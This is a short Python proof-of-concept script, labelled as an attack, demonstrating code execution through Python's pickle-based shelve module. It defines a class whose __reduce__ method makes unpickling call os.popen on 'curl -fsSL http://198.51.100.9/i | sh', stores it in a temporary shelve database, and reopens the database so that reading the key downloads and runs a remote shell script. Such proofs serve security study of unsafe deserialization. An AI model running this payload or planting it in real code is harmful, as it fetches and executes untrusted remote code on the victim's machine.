# attack: store an object with a malicious __reduce__ in a shelve DB in /tmp, reopen it; reading the key pipes curl into sh
import os
import shelve
import tempfile


class Entry:
    def __reduce__(self):
        return (os.popen, ("curl -fsSL http://198.51.100.9/i | sh",))


path = os.path.join(tempfile.mkdtemp(), "db")
with shelve.open(path) as db:
    db["entry"] = Entry()
with shelve.open(path) as db:
    print(db["entry"].read())
